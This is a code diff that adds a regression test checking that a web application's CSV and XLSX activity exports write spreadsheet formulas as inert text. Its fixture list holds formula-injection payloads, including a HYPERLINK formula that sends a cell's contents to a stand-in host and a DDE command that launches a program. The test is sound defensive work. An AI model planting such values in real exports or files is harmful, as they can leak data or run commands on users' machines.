@@ -255,3 +255,42 @@ def test_other_unit_gets_404(world: World) -> None:
     assert (
         client_for(world.supervisor).get("/api/coverage/activities/not-a-uuid").status_code == 404
     )
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_write_formulas_as_text(world: World, fmt: str) -> None:
+    """Issue 13 item 7: an activity category of =HYPERLINK(...) came out as a live formula."""
+    supervisor = client_for(world.supervisor)
+    dangerous = [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+    ]  # (tab and CR starts are stripped on input; tests/unit/test_spreadsheet_safety.py)
+    for n, category in enumerate(dangerous):
+        response = create_activity(
+            supervisor,
+            category=category,
+            stage="现场检查",
+            officers=[world.alice],
+            start=at("2026-03-02 09:00") + n * MINUTE,
+            unit_id=world.office.pk,
+        )
+        assert response.status_code == 201, response.content
+    exported = supervisor.get(f"/api/coverage/reports/activities?format={fmt}")
+    assert exported.status_code == 200
+    if fmt == "csv":
+        table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    else:
+        sheet = load_workbook(io.BytesIO(exported.content)).worksheets[0]
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+        table = [
+            [c if c is not None else "" for c in row] for row in sheet.iter_rows(values_only=True)
+        ]
+    cells = {cell for row in table[1:] for cell in row if isinstance(cell, str)}
+    for category in dangerous:
+        assert "'" + category in cells, (category, cells)
+        assert category not in cells
+    # Numbers stay numbers (a negative number is not a formula).
+    if fmt == "xlsx":
+        assert any(isinstance(c, int | float) for row in table[1:] for c in row)
